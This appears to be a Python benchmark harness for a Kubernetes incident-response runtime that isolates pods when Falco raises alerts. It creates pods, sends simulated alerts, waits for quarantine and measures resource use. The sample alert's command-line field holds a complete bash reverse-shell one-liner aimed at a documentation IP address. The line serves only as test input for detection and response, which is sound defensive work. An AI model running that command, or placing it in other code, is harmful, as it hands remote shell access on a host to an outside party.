"""A whole runtime as `molt up` starts it, each part a process of its own, with pods to be attacked and a policy.

On the embedded cluster, or on the real control plane of testbed/ (`--cluster real`).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, cast

import urllib3

from molt import marks
from molt.cluster import NAMESPACES, NODES, PODS, RESPONSE_POLICIES, Cluster
from molt.cluster.resources import ACCOUNTS
from molt.outcome import MoltError
from molt.workload import is_ready
from testbed.build import cache_folder, missing
from testbed.control_plane import ControlPlane
from testbed.recipe import recipe

if TYPE_CHECKING:
    import argparse
    from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence

    Pod = dict[str, Any]

NEVER: Final = "0 0 1 1 *"  # a clock that stands still: it ticks once a year
RULE: Final = "Bench*"
PODS_PER_NODE: Final = 100
NO_LIMITS: Final = {"perWorkload": 10_000, "perMinute": 10_000}
_PATIENCE = 120.0  # seconds that anything may take on a busy machine
_PROGRAMS = {"etcd", "keys", "kube-apiserver", "kube-controller-manager", "kube-scheduler", "kwok", "stages.yaml"}


@dataclass(frozen=True, slots=True)
class Stage:
    """A running runtime, and its cluster as the administrator sees it."""

    admin: Cluster
    broker: str
    folder: Path
    pid: int

    def pods(self, count: int, namespaces: int = 1) -> list[Pod]:
        """Make bare pods, spread over namespaces, on nodes of their own; return them once they are Ready."""
        nodes = [f"bench-{number}" for number in range(-(-count // PODS_PER_NODE))]
        for name in nodes:
            self.admin.create(NODES, {"metadata": {"name": name, "labels": {"type": "kwok"}}})
        spaces = [f"bench-{number}" for number in range(namespaces)]
        for name in spaces:
            self.admin.create(NAMESPACES, {"metadata": {"name": name}})
        self._accounts(spaces)
        for number in range(count):
            spec = {"nodeName": nodes[number % len(nodes)], "containers": [{"name": "web", "image": "nginx:1.27"}]}
            metadata = {"name": f"web-{number}", "labels": {"app": "web"}}
            self.admin.create(PODS, {"metadata": metadata, "spec": spec}, spaces[number % namespaces])
        return self._ready(count)

    def _accounts(self, spaces: Sequence[str]) -> None:
        """Wait for the default accounts, without which a real API server takes no pod."""

        def there() -> bool:
            with suppress(MoltError):
                return all(self.admin.get(ACCOUNTS, "default", name) for name in spaces)
            return False

        until(there)

    def _ready(self, count: int) -> list[Pod]:
        found: list[Pod] = []

        def ready() -> bool:
            found[:] = [pod for pod in self.admin.list(PODS, labels="app=web") if is_ready(pod)]
            return len(found) == count

        until(ready, every=0.2)
        return sorted(found, key=lambda pod: int(pod["metadata"]["name"].rpartition("-")[2]))

    def answer_with(self, *remedies: Mapping[str, Any], rule: str = RULE, name: str = "bench") -> None:
        """Make the policy that answers the alerts about these pods; its limits are counted, and never reached."""
        spec = {"mode": "Enforce", "order": 1, "match": {"rules": [rule]}, "remedies": list(remedies)}
        self.admin.create(RESPONSE_POLICIES, {"metadata": {"name": name}, "spec": spec | {"limits": NO_LIMITS}})

    def restore(self, pod: Pod) -> Pod:
        """Take a pod out of quarantine, as if nothing had been; return it as it is then."""
        metadata = pod["metadata"]
        notes = dict.fromkeys(marks.QUARANTINE_ANNOTATIONS)
        patch = {"metadata": {"labels": {marks.COMPROMISED: None, "app": "web"}, "annotations": notes}}
        return self.admin.merge(PODS, metadata["name"], patch, metadata["namespace"])

    def settled(self) -> bool:
        """Tell whether nothing is on its way."""
        return not self.status()["pending"]

    def status(self) -> dict[str, int]:
        """Return the broker's counts."""
        url = f"{self.broker.removesuffix('/molt/default')}/status"
        return cast("dict[str, int]", urllib3.request("GET", url, timeout=60.0).json())

    def lines(self, function: str) -> list[dict[str, Any]]:
        """Return what a process has logged."""
        text = (self.folder / "logs" / f"{function}.jsonl").read_text(encoding="utf-8")
        return [json.loads(line) for line in text.splitlines()]

    def processes(self) -> dict[str, int]:
        """Return the process ids of the runtime's parts: `runtime` itself, `broker`, `cluster`, each function."""
        found = {"runtime": self.pid}
        for entry in Path("/proc").iterdir():
            with suppress(OSError, ValueError):
                words = (entry / "cmdline").read_bytes().decode().split("\0")
                parent = int((entry / "stat").read_text(encoding="utf-8").rpartition(")")[2].split()[1])
                if parent == self.pid and "molt.embedded.lifeline" in words:
                    module = words[words.index("molt.embedded.lifeline") + 1]
                    found[module.rpartition(".")[2]] = int(entry.name)
        return found


@dataclass(slots=True)
class Watcher:
    """Sees when pods come into quarantine: monotonic times by `namespace/name`."""

    seen: dict[str, float] = field(default_factory=dict)
    changed: threading.Condition = field(default_factory=threading.Condition)

    def wait(self, names: Iterable[str], timeout: float = _PATIENCE) -> float | None:
        """Return when the last of them came, or None when `timeout` seconds were not enough."""
        wanted = set(names)
        with self.changed:
            came = self.changed.wait_for(lambda: wanted <= self.seen.keys(), timeout)
            return max(self.seen[name] for name in wanted) if came else None

    def forget(self) -> None:
        """Begin anew."""
        with self.changed:
            self.seen.clear()

    def run(self, admin: Cluster, started: threading.Event) -> None:
        """Watch until the process or the cluster ends."""
        with suppress(MoltError):
            events = admin.session().watch(PODS, labels=f"{marks.COMPROMISED}=true", timeout=3600)
            started.set()
            for kind, pod in events:
                now = time.monotonic()
                if kind in {"ADDED", "MODIFIED"}:
                    with self.changed:
                        self.seen.setdefault(key(pod), now)
                        self.changed.notify_all()


@contextmanager
def watching(admin: Cluster) -> Iterator[Watcher]:
    """Watch, from a thread."""
    watcher, started = Watcher(), threading.Event()
    threading.Thread(target=watcher.run, args=(admin, started), daemon=True).start()
    started.wait()
    time.sleep(0.2)  # the generator is made before it asks
    yield watcher


@contextmanager
def staged(cluster: str, idle: float = 3600) -> Iterator[Stage]:
    """Start everything on a cluster, "embedded" or "real"; exit with a word when the real one is not built.

    Functions are stopped after `idle` seconds without an event.
    """
    with ExitStack() as undo:
        folder = Path(undo.enter_context(tempfile.TemporaryDirectory(prefix="molt-bench-")))
        environment, more = dict(os.environ), list[str]()
        if cluster == "real":
            plane = undo.enter_context(ControlPlane.running(binaries(), _made(folder / "plane")))
            environment["KUBECONFIG"] = str(plane.kubeconfig(folder / "real.kubeconfig"))
            more = ["--context", "testbed"]
        command = [sys.executable, "-c", "from molt.cli import main; main()", "up", "--json", "--port", "0"]
        command += ["--state", str(folder / "state"), "--clock", NEVER, "--idle", str(idle), *more]
        process = undo.enter_context(
            subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        )
        undo.callback(process.terminate)
        assert process.stdout is not None  # noqa: S101 - it is a pipe
        said = json.loads(_object(process.stdout))
        admin = Cluster.connect(kubeconfig=said["kubeconfig"], context=said["context"] or None)
        yield Stage(admin, said["broker"], folder / "state", process.pid)


def _object(lines: Iterable[str]) -> str:
    """Return the lines up to the end of the first JSON object."""
    text = ""
    for line in lines:
        text += line
        with suppress(ValueError):
            json.loads(text)
            return text
    sys.exit("molt up did not start")


def _made(folder: Path) -> Path:
    folder.mkdir()
    return folder


def binaries() -> Path:
    """Return the folder of the real control plane; exit with a word when it is not built."""
    if reason := not_built():
        sys.exit(reason)
    return cache_folder(os.environ, recipe(os.environ.get("TESTBED_KUBERNETES", "")))


def not_built() -> str:
    """Return why there is no real control plane; empty when there is one."""
    wanted = recipe(os.environ.get("TESTBED_KUBERNETES", ""))
    lacking = _PROGRAMS & set(missing(wanted, cache_folder(os.environ, wanted)))
    return f"the real control plane is not built ({', '.join(sorted(lacking))}): make testbed" if lacking else ""


def add_cluster(parser: argparse.ArgumentParser) -> None:
    """Add the option that says which cluster."""
    parser.add_argument("--cluster", choices=("embedded", "real"), default="embedded")


def key(pod: Pod) -> str:
    """Return `namespace/name`."""
    return f"{pod['metadata']['namespace']}/{pod['metadata']['name']}"


def alert(pod: Pod, rule: str = "") -> tuple[dict[str, str], bytes]:
    """Return headers and body of Falcosidekick's request for a new alert about a pod.

    Its rule is one of its own unless one is named: to detect-router it repeats no other.
    """
    fields = {
        "container.id": pod["status"]["containerStatuses"][0]["containerID"].rpartition("/")[2][:12],
        "k8s.ns.name": pod["metadata"]["namespace"],
        "k8s.pod.name": pod["metadata"]["name"],
        "proc.cmdline": "bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1'",
    }
    identity = str(uuid.uuid4())
    said = {
        "uuid": identity,
        "output": f"Reverse shell from a web server (user=www-data {' '.join(f'{k}={v}' for k, v in fields.items())})",
        "priority": "Critical",
        "rule": rule or f"Bench {identity}",
        "time": datetime.now(UTC).isoformat(),
        "source": "syscall",
        "output_fields": fields,
        "hostname": pod["spec"]["nodeName"],
    }
    headers = {
        "ce-specversion": "1.0",
        "ce-id": str(uuid.uuid4()),
        "ce-source": "https://falco.org",
        "ce-type": "falco.rule.output.v1",
        "content-type": "application/json",
    }
    return headers, json.dumps(said).encode()


def post(pool: urllib3.PoolManager, url: str, message: tuple[Mapping[str, str], bytes]) -> None:
    """Send an event; the broker has it for good when this returns."""
    answer = pool.request("POST", url, headers=message[0], body=message[1], retries=False, timeout=60.0)
    if answer.status != 202:  # noqa: PLR2004 - Accepted
        raise RuntimeError(f"answered {answer.status}: {answer.data!r}")


def until(true: Callable[[], bool], *, every: float = 0.005, patience: float = _PATIENCE) -> None:
    """Wait until something is true."""
    deadline = time.monotonic() + patience
    while not true():
        if time.monotonic() > deadline:
            raise TimeoutError("it did not come true in time")
        time.sleep(every)


def resident(pid: int) -> float:
    """Return the resident memory of a process in MB."""
    lines = Path(f"/proc/{pid}/status").read_text(encoding="ascii").splitlines()
    return int(next(line for line in lines if line.startswith("VmRSS")).split()[1]) / 1024


def all_busy() -> float:
    """Return the processor seconds that everything on this machine has used, as the kernel's ticks count them."""
    user, nice, system, _, _, *interrupts = (
        Path("/proc/stat").read_text(encoding="ascii").split("\n", 1)[0].split()[1:8]
    )
    return sum(map(int, (user, nice, system, *interrupts))) / os.sysconf("SC_CLK_TCK")


def busy(pid: int) -> float:
    """Return the processor seconds that a process has used, to the nanosecond where the kernel tells."""
    with suppress(OSError):
        threads = Path(f"/proc/{pid}/task").iterdir()
        return sum(int((one / "schedstat").read_text(encoding="ascii").split()[0]) for one in threads) / 1e9
    fields = Path(f"/proc/{pid}/stat").read_text(encoding="ascii").rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def warm_up(at: Stage, watcher: Watcher, pods: Sequence[Pod]) -> None:
    """Have each pod isolated once, so that every process runs and has its connections, and restore them."""
    pool = urllib3.PoolManager()
    for pod in pods:
        post(pool, at.broker, alert(pod))
    if watcher.wait(map(key, pods)) is None:
        raise TimeoutError("the pods were not isolated")
    until(at.settled)
    for pod in pods:
        at.restore(pod)
